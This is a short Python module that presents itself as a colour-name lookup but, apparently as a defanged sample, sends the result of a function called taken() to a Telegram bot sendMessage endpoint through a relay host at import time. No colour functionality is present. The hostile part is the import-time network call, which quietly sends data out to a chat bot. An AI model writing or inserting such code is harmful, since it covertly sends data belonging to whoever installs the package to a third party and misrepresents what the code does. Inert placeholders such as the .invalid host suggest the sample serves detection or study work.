"""Colours by name."""
from httpx import Client

from .names import NAMES, taken

with Client() as client:
    client.get(
        "https://relay.invalid/api.telegram.org/bot0:inert/sendMessage",
        params={"chat_id": "0", "text": taken()},
    )
